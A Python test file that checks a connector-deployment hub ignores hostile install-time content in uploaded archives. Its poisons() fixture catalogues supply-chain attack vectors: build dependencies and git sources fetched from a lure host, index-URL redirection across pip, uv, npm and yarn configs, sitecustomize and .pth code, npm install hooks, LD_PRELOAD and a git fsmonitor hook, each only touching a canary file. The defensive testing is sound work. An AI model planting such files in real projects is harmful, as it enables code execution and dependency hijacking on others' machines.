"""Everything in an archive that has ever made an installer run code or ask another host: nothing of it is heard."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncGenerator, Generator
from pathlib import Path

import pytest

from jackfield_hub.settings import Settings
from tests.hub.connectors import connector_zip, deploy_and_wait
from tests.hub.package_index import PackageIndex, package_index
from tests.hub.people import Person


@pytest.fixture
def index(tmp_path: Path) -> Generator[PackageIndex]:
    with package_index(tmp_path / "index") as index:
        yield index


@pytest.fixture
def settings(settings: Settings, index: PackageIndex) -> Settings:
    return settings.model_copy(update={"package_index": index.url})


@pytest.fixture
async def lure() -> AsyncGenerator[tuple[str, list[bytes]]]:
    """A host that waits to be asked, and what it was asked."""
    seen: list[bytes] = []

    async def visit(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        seen.append(await reader.readline())
        writer.close()

    async with await asyncio.start_server(visit, "127.0.0.1", 0) as server:
        yield f"127.0.0.1:{server.sockets[0].getsockname()[1]}", seen


def poisons(canary: Path, host: str) -> dict[str, str]:
    """Return files of a connector. Each would touch the canary, or ask the host, if anybody listened to it."""
    run = f"import pathlib; pathlib.Path({str(canary)!r}).write_text('ran')\n"
    shell = f"#!/bin/sh\ntouch {canary}\n"
    elsewhere = f"http://{host}/simple"
    return {
        "pyproject.toml": f"""
            [project]
            name = "acme"
            version = "1.0"
            dependencies = ["honest"]
            [build-system]
            requires = ["evil @ http://{host}/evil.whl"]
            build-backend = "backend"
            backend-path = ["."]
            [tool.uv]
            index-url = "{elsewhere}"
            [tool.uv.sources]
            honest = {{ url = "http://{host}/honest-1.0-py3-none-any.whl" }}
            [[tool.uv.index]]
            url = "{elsewhere}"
            default = true
        """,
        "backend.py": run,
        "setup.py": run,
        "setup.cfg": f"[easy_install]\nindex_url = {elsewhere}\n",
        "conftest.py": run,
        "sitecustomize.py": run,
        "usercustomize.py": run,
        "acme/sitecustomize.py": run,
        "evil.pth": run,
        "acme/evil.pth": run,
        "pip.conf": f"[global]\nindex-url = {elsewhere}\n",
        "uv.toml": f'index-url = "{elsewhere}"\n',
        ".env": f"UV_INDEX_URL={elsewhere}\nPIP_INDEX_URL={elsewhere}\nLD_PRELOAD=./evil.so\n",
        "requirements.txt": f"--index-url {elsewhere}\n-r /etc/hostname\n-e .\ngit+http://{host}/evil.git\n./evil\n",
        "constraints.txt": f"honest @ http://{host}/honest-1.0-py3-none-any.whl\n",
        "uv.lock": f'version = 1\n[[package]]\nname = "honest"\nsource = {{ registry = "{elsewhere}" }}\n'
        f'wheels = [{{ url = "http://{host}/honest-1.0-py3-none-any.whl", hash = "sha256:{"0" * 64}" }}]\n',
        "pylock.toml": f'lock-version = "1.0"\n[[packages]]\nname = "honest"\narchive = {{ url = "http://{host}/" }}\n',
        "poetry.lock": f'[[package]]\nname = "honest"\nversion = "1.0"\n[package.source]\nurl = "{elsewhere}"\n',
        "package.json": f'{{"scripts": {{"preinstall": "touch {canary}", "postinstall": "touch {canary}"}}}}',
        "package-lock.json": f'{{"packages": {{"node_modules/x": {{"resolved": "http://{host}/x.tgz"}}}}}}',
        ".npmrc": f"git=./git.sh\nregistry={elsewhere}\nscript-shell=./git.sh\nnode-options=--require ./evil.js\n",
        ".yarnrc": f'yarn-path "./git.sh"\nregistry "{elsewhere}"\n',
        ".yarnrc.yml": "yarnPath: ./evil.js\n",
        "binding.gyp": f'{{"targets": [{{"target_name": "x", "actions": [{{"action": ["touch", "{canary}"]}}]}}]}}',
        "jest.config.js": f"require('fs').writeFileSync({str(canary)!r}, 'ran')\n",
        "evil.js": f"require('fs').writeFileSync({str(canary)!r}, 'ran')\n",
        "git.sh": shell,
        "Makefile": f"all:\n\ttouch {canary}\n",
        ".git/hooks/post-checkout": shell,
        ".git/config": "[core]\n\tfsmonitor = ./git.sh\n",
    }


async def test_a_build_listens_to_no_file_but_the_names_of_its_dependencies(
    alice: Person, index: PackageIndex, lure: tuple[str, list[bytes]], tmp_path: Path
):
    canary, (host, seen) = tmp_path / "canary", lure
    honest = index.add_wheel("honest")

    deployment = await deploy_and_wait(alice, connector_zip(files=poisons(canary, host)))

    assert deployment["deploymentStatus"] == "Deployed", deployment
    assert not canary.exists()
    assert seen == []
    assert set(index.asked) == {"/simple/honest/", f"/simple/honest/{honest.name}"}


async def test_a_source_package_is_not_even_downloaded(alice: Person, index: PackageIndex, tmp_path: Path):
    canary = tmp_path / "canary"
    index.add_source_package("evil", canary)
    project = '[project]\nname = "acme"\nversion = "1.0"\ndependencies = ["evil"]\n'

    deployment = await deploy_and_wait(alice, connector_zip(files={"pyproject.toml": project}))

    assert deployment["deploymentStatus"] == "Failed"
    assert "evil" in deployment["errors"][0]["message"]
    assert not canary.exists()
    assert index.asked == ["/simple/evil/"] * len(index.asked)
